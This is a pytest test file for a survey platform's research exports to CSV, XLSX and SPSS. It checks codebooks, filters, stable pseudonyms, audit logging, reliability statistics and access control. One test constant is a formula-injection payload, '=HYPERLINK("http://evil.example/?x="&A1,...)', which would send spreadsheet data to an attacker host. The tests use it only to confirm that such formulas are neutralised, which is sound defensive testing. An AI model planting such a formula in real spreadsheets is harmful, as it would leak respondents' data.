"""Researchers' exports, read back and compared with the database, on SQLite and PostgreSQL: the
wide CSV and XLSX (typed cells, frozen header, codebook sheet), a select_multiple's 0/1 columns,
scores, the filters, clear errors for nothing to export, formulas neutralised, pseudonyms stable
and never a platform id, and each export in the audit log."""

from __future__ import annotations

import csv
from datetime import datetime, timedelta
from pathlib import Path

import numpy as np
import openpyxl
import pyreadstat
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from bot.export_writers import FORMULA_START, PLAIN_NUMBER, neutralised
from storage.models import Answer, AuditEntry, Respondent, Submission, SurveyVersion
from survey_flows.codebook import codebook
from survey_flows.xlsform import load_flow
from tests.console_user import ConsoleUser, add_account

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'


def respondent(session, clock, user: str, group: str, municipality: str) -> Respondent:
    """A LINE respondent with a profile."""
    made = Respondent(
        channel="line",
        channel_user_id=user,
        profile={"group": group, "municipality": municipality},
        created_at=clock.now,
    )
    session.add(made)
    session.flush()
    return made


def take(
    session, clock, who: Respondent, answers: dict, *, done=True, days_ago=0, form="livelihood"
) -> Submission:
    """A submission of the form with these answers (the first value of a tuple of two is the
    one changed later)."""
    version = session.scalars(select(SurveyVersion).where(SurveyVersion.form_id == form)).first()
    started = clock.now - timedelta(days=days_ago)
    made = Submission(
        respondent_id=who.id,
        survey_version_id=version.id,
        channel="line",
        started_at=started,
        completed_at=started + timedelta(minutes=3) if done else None,
    )
    session.add(made)
    session.flush()
    for question, value in answers.items():
        for answered in value if isinstance(value, tuple) else (value,):
            session.add(
                Answer(
                    submission_id=made.id,
                    respondent_id=who.id,
                    survey_version_id=version.id,
                    question=question,
                    raw=str(answered),
                    value=answered,
                    answered_at=started + timedelta(minutes=1),
                    channel="line",
                )
            )
    return made


@pytest.fixture
def answered(app, clock) -> dict[str, int]:
    """A driver and a vendor who finished the livelihood survey, one who did not, and an old
    one from last month."""
    with app.extensions["runtime"].db.begin() as session:
        driver = respondent(session, clock, "U" + "d" * 32, "carriage", "nakhon")
        vendor = respondent(session, clock, "U" + "v" * 32, "kadkongta", "khelang")
        take(
            session,
            clock,
            driver,
            {
                "years": (10, 12),
                "busy_days": "same",
                "customers": ["thai", "schools"],
                "income": 850.5,
                "online": "yes",
                "wish": HYPERLINK,
            },
        )
        take(session, clock, vendor, {"years": 3, "busy_days": "less", "customers": ["locals"]})
        take(session, clock, vendor, {"years": 4}, done=False)
        take(session, clock, driver, {"years": 9, "busy_days": "more"}, days_ago=40)
        return {"driver": driver.id, "vendor": vendor.id}


def run_export(app, out: Path, *options: str):
    """`flask export --survey livelihood` with the options."""
    return app.test_cli_runner().invoke(
        args=["export", "--survey", "livelihood", "--out", str(out), *options]
    )


def read_csv(path: Path) -> list[dict[str, str]]:
    """The CSV as Excel reads it (the BOM stripped)."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_the_wide_csv_is_one_row_per_submission_as_stored(app, answered, tmp_path) -> None:
    """Columns in question order, a select_multiple's summary then 0/1 per choice, the newest
    answer to a changed question, KoBo's meta columns; Thai intact behind a BOM."""
    out = tmp_path / "wide.csv"
    result = run_export(app, out)
    assert result.exit_code == 0, result.output
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = read_csv(out)
    assert len(rows) == 3  # the unfinished one is left out
    header = list(rows[0])
    assert header.index("years") < header.index("busy_days") < header.index("customers")
    assert header[header.index("customers") + 1 : header.index("customers") + 6] == [
        "customers/thai",
        "customers/foreign",
        "customers/locals",
        "customers/schools",
        "customers/shops",
    ]
    for column in ("_uuid", "_submission_time", "__version__", "_respondent", "_group"):
        assert column in header
    newest = next(r for r in rows if r["years"] == "12")
    assert newest["customers"] == "thai schools"
    assert (newest["customers/thai"], newest["customers/locals"], newest["customers/schools"]) == (
        "1",
        "0",
        "1",
    )
    assert newest["_group"] == "carriage" and newest["_municipality"] == "nakhon"
    assert newest["income"] == "850.5" and newest["__version__"] == "1"
    assert newest["_entered_by"] == "self"
    with app.extensions["runtime"].db() as session:
        uuids = set(
            session.scalars(select(Submission.uuid).where(Submission.completed_at.is_not(None)))
        )
    assert {row["_uuid"] for row in rows} == uuids


def test_a_formula_typed_by_a_respondent_is_never_run(app, answered, tmp_path) -> None:
    """In the CSV the cell starts with ' (Excel shows it as typed); in the XLSX it is text,
    not a formula; a negative number stays a number."""
    out = tmp_path / "wide.csv"
    assert run_export(app, out).exit_code == 0
    [driver] = [r for r in read_csv(out) if r["years"] == "12"]
    assert driver["wish"] == "'" + HYPERLINK
    book_path = tmp_path / "wide.xlsx"
    assert run_export(app, book_path, "--format", "xlsx").exit_code == 0
    sheet = openpyxl.load_workbook(book_path)["data"]
    header = [cell.value for cell in sheet[1]]
    wish = [row[header.index("wish")] for row in sheet.iter_rows(min_row=2)]
    typed = next(cell for cell in wish if cell.value)
    assert typed.value == HYPERLINK and typed.data_type == "s"


def test_the_xlsx_has_typed_cells_a_frozen_header_and_its_codebook(app, answered, tmp_path) -> None:
    """Numbers are numbers, times are dates, the header stays in view, and the codebook sheet
    has a row per column with its Thai label and codes."""
    out = tmp_path / "wide.xlsx"
    result = run_export(app, out, "--format", "xlsx")
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out)
    data = book["data"]
    assert data.freeze_panes == "A2"
    header = [cell.value for cell in data[1]]
    rows = [[cell.value for cell in row] for row in data.iter_rows(min_row=2)]
    years = sorted(row[header.index("years")] for row in rows)
    assert years == [3, 9, 12]
    assert all(isinstance(row[header.index("_submission_time")], datetime) for row in rows)
    income = [row[header.index("income")] for row in rows if row[header.index("income")]]
    assert income == [850.5]
    codebook_sheet = {
        row[0]: row for row in book["codebook"].iter_rows(min_row=2, values_only=True)
    }
    assert codebook_sheet["years"][1] == "คุณทำอาชีพนี้มากี่ปีแล้วคะ"
    assert "same=เท่าเดิม / About the same" in codebook_sheet["busy_days"][4]
    assert codebook_sheet["customers/schools"][3] == "flag"
    assert codebook_sheet["_respondent"][2] == "Respondent's pseudonym"  # the meta columns too


def test_filters_narrow_the_rows_and_nothing_matched_is_an_error(app, answered, tmp_path) -> None:
    """By group, by date, partial ones when asked; an unknown survey, or a filter that leaves
    nothing, is a clear error and no file."""
    out = tmp_path / "x.csv"
    assert run_export(app, out, "--group", "kadkongta").exit_code == 0
    assert [r["_group"] for r in read_csv(out)] == ["kadkongta"]
    assert run_export(app, out, "--since", "2026-11-01").exit_code == 0
    assert len(read_csv(out)) == 2  # last month's is left out
    assert run_export(app, out, "--partial").exit_code == 0
    assert len(read_csv(out)) == 4
    out.unlink()
    nothing = run_export(app, out, "--municipality", "nowhere")
    assert nothing.exit_code != 0 and "matches the filters" in nothing.output
    assert not out.exists()
    unknown = app.test_cli_runner().invoke(args=["export", "--survey", "nope", "--out", str(out)])
    assert unknown.exit_code != 0 and "no survey 'nope'" in unknown.output


def test_pseudonyms_are_stable_and_reveal_no_platform_id(app, answered, tmp_path) -> None:
    """The same person has the same pseudonym in two exports (wide and long); no LINE id is
    anywhere in either file; the two people differ."""
    wide, long = tmp_path / "wide.csv", tmp_path / "long.csv"
    assert run_export(app, wide).exit_code == 0
    assert run_export(app, long, "--layout", "long").exit_code == 0
    in_wide = {r["_respondent"] for r in read_csv(wide)}
    in_long = {r["_respondent"] for r in read_csv(long)}
    assert len(in_wide) == 2 and in_wide == in_long
    for path in (wide, long):
        text = path.read_text(encoding="utf-8-sig")
        assert "U" + "d" * 32 not in text and "U" + "v" * 32 not in text


def test_each_export_is_in_the_audit_log_with_its_filters(app, answered, tmp_path) -> None:
    """Who ran it, the survey, the filters and how many rows."""
    assert run_export(app, tmp_path / "x.csv", "--group", "carriage").exit_code == 0
    with app.extensions["runtime"].db() as session:
        entry = session.scalars(
            select(AuditEntry).where(AuditEntry.action == "export.written")
        ).one()
    assert entry.actor.startswith("cli:") and entry.target == "survey:livelihood"
    assert entry.detail["filters"]["groups"] == ["carriage"] and entry.detail["rows"] == 2


def test_the_codebook_of_two_versions_keeps_a_renamed_question_apart() -> None:
    """Version 2 renames `income` to `daily_income`: both columns, in form order, each saying
    which version asks it."""
    source = (Path(__file__).resolve().parent.parent / "flows/livelihood.md").read_text(
        encoding="utf-8"
    )
    first = load_flow(source.encode(), "livelihood.md")
    renamed = source.replace("| income ", "| daily_income ").replace("${income}", "${daily_income}")
    second = load_flow(renamed.replace("| livelihood | 1 ", "| livelihood | 2 ").encode(), "l.md")
    names = [variable.name for variable in codebook([first, second])]
    assert names.index("income") < names.index("daily_income") < names.index("online")
    by_name = {variable.name: variable for variable in codebook([first, second])}
    assert by_name["income"].versions == ("1",) and by_name["daily_income"].versions == ("2",)
    assert by_name["years"].versions == ("1", "2")


def test_the_sav_reads_back_in_spss_terms(app, answered, tmp_path) -> None:
    """Through pyreadstat: Thai variable labels, choices as numbered codes with their labels,
    0/1 columns, -9 declared missing where unanswered, measure levels, SPSS-safe names."""
    out = tmp_path / "wide.sav"
    result = run_export(app, out, "--format", "sav")
    assert result.exit_code == 0, result.output
    frame, meta = pyreadstat.read_sav(str(out), user_missing=True)
    assert len(frame) == 3
    labels = dict(zip(meta.column_names, meta.column_labels, strict=True))
    assert labels["years"].startswith("คุณทำอาชีพนี้มากี่ปีแล้วคะ")
    assert "customers_schools" in meta.column_names and "uuid" in meta.column_names
    busy = meta.variable_value_labels["busy_days"]
    assert busy[2.0].startswith("เท่าเดิม") and busy[-9.0].startswith("ไม่ได้ตอบ")
    assert sorted(frame["years"]) == [3, 9, 12]
    assert meta.variable_measure["busy_days"] == "nominal"
    assert meta.variable_measure["years"] == "scale"
    income = sorted(frame["income"])
    assert income == [-9, -9, 850.5]  # two did not say: -9, declared missing
    assert meta.missing_ranges["income"] == [{"lo": -9.0, "hi": -9.0}]
    driver = frame[frame["years"] == 12].iloc[0]
    assert (driver["customers_thai"], driver["customers_locals"]) == (1, 0)


def cronbach(matrix: np.ndarray) -> float:
    """Cronbach's α, the textbook way: k/(k-1) · (1 − Σ item variances / variance of the sum)."""
    k = matrix.shape[1]
    return k / (k - 1) * (1 - matrix.var(axis=0, ddof=1).sum() / matrix.sum(axis=1).var(ddof=1))


def test_reliability_matches_a_reference_computed_with_numpy(app, clock, tmp_path) -> None:
    """Forty random assessments (a few with an item skipped, left out of that scale): α,
    corrected item-total correlations and α if deleted, per sub-feature and characteristic,
    as numpy computes them from the recoded item scores."""
    runtime = app.extensions["runtime"]
    rng = np.random.default_rng(7)
    with runtime.db.begin() as session:
        assessment = select(SurveyVersion).where(SurveyVersion.form_id == "active_citizen")
        scoring = runtime.library.flow(session.scalars(assessment).one()).scoring
        taken: list[dict[str, str]] = []
        for n in range(40):
            who = respondent(session, clock, f"U{n:032d}", "carriage", "nakhon")
            answers = {}
            for item in scoring.items:
                choices = sorted(item.scale, key=item.scale.get)
                # a common factor, so the items agree enough for α to mean something
                lean = rng.integers(0, len(choices))
                pick = int(np.clip(lean + rng.integers(-1, 2), 0, len(choices) - 1))
                answers[item.name] = choices[pick]
            if n % 10 == 3:
                del answers[scoring.items[0].name]
            taken.append(answers)
            take(session, clock, who, answers, form="active_citizen")
    out, table = tmp_path / "a.xlsx", tmp_path / "reliability.csv"
    result = app.test_cli_runner().invoke(
        args=[
            "export",
            "--survey",
            "active_citizen",
            "--format",
            "xlsx",
            "--out",
            str(out),
            "--reliability",
            str(table),
        ]
    )
    assert result.exit_code == 0, result.output
    sheet = list(openpyxl.load_workbook(out)["reliability"].iter_rows(values_only=True))
    assert [list(row) for row in sheet[1:]] == [
        [cell if cell != "" else None for cell in row.values()] for row in _typed(read_csv(table))
    ]
    scales = [("subfeature", d.id) for d in scoring.subfeatures] + [
        ("characteristic", d.id) for d in scoring.characteristics
    ]
    for kind, scale in scales:
        items = [i for i in scoring.items if getattr(i, kind) == scale]
        complete = [a for a in taken if all(i.name in a for i in items)]
        matrix = np.array([[i.points(a[i.name]) for i in items] for a in complete])
        [head] = [row for row in sheet if row[0] == scale and row[1] == kind and not row[2]]
        assert head[6] == len(complete)
        assert head[3] == pytest.approx(cronbach(matrix), abs=1e-4)
        for index, item in enumerate(items):
            [row] = [r for r in sheet if r[0] == scale and r[1] == kind and r[2] == item.name]
            rest = np.delete(matrix, index, axis=1)
            expected_r = np.corrcoef(matrix[:, index], rest.sum(axis=1))[0, 1]
            assert row[4] == pytest.approx(expected_r, abs=1e-4)
            assert row[5] == pytest.approx(cronbach(rest), abs=1e-4)


def _typed(rows: list[dict[str, str]]) -> list[dict[str, object]]:
    """The reliability CSV's cells as numbers where they are numbers."""
    typed = []
    for row in rows:
        cells: dict[str, object] = {}
        for key, value in row.items():
            try:
                cells[key] = int(value) if value.isdigit() else float(value)
            except ValueError:
                cells[key] = value
        typed.append(cells)
    return typed


def test_a_researcher_downloads_from_the_console_and_a_coordinator_cannot(
    app, answered, tmp_path
) -> None:
    """The console's export page: the XLSX for the carriage drivers downloads with its sheets,
    audited under the researcher's name; a filter that leaves nothing says so; coordinators,
    who see contact details, get no answers to take away."""
    add_account(app, "research@example.org", "researcher")
    add_account(app, "coord@example.org", "coordinator")
    researcher = ConsoleUser(app)
    researcher.sign_in("research@example.org")
    researcher.get("/console/exports")
    got = researcher.post(
        "/console/exports",
        {"survey": "livelihood", "format": "xlsx", "layout": "wide", "groups": "carriage"},
    )
    assert got.status_code == 200 and "attachment" in got.headers["Content-Disposition"]
    out = tmp_path / "console.xlsx"
    out.write_bytes(got.data)
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["data", "codebook"]
    assert book["data"].max_row == 3  # the header and the driver's two
    researcher.get("/console/exports")
    nothing = researcher.post(
        "/console/exports",
        {
            "survey": "livelihood",
            "format": "csv",
            "layout": "wide",
            "municipalities": "khelang",
            "groups": "carriage",
        },
    )
    assert "ไม่มีชุดคำตอบที่ตรงกับที่เลือก" in nothing.get_data(as_text=True)
    codebook_file = researcher.post(
        "/console/exports", {"survey": "livelihood", "format": "codebook", "layout": "wide"}
    )
    assert codebook_file.data.decode("utf-8-sig").startswith("name,label_th,label_en")
    with app.extensions["runtime"].db() as session:
        entries = session.scalars(
            select(AuditEntry).where(AuditEntry.action == "export.written")
        ).all()
    assert [(e.actor, e.detail["format"]) for e in entries] == [
        ("research@example.org", "xlsx"),
        ("research@example.org", "codebook"),
    ]
    coordinator = ConsoleUser(app)
    coordinator.sign_in("coord@example.org")
    assert coordinator.get("/console/exports").status_code == 403


@given(st.text(max_size=40))
def test_no_neutralised_text_starts_a_formula(text: str) -> None:
    """Whatever a respondent types, the CSV cell starts with no character a spreadsheet runs,
    unless it is only a number; and nothing but the leading ' is ever added."""
    cell = neutralised(text)
    assert cell in (text, "'" + text)
    if isinstance(cell, str) and cell.startswith(FORMULA_START):
        assert PLAIN_NUMBER.fullmatch(cell)


def test_a_question_in_a_group_is_named_by_its_path_as_kobo_does() -> None:
    """The assessment's first item sits in group part1: its column is part1/c1_1_a, and the
    scores follow the answers."""
    source = (Path(__file__).resolve().parent.parent / "flows/assessment.md").read_bytes()
    names = [variable.name for variable in codebook([load_flow(source, "assessment.md")])]
    assert "part1/c1_1_a" in names and "c1_1_a" not in names
    assert names.index("part1/c1_1_a") < names.index("score_c1_1") < names.index("score_c1")
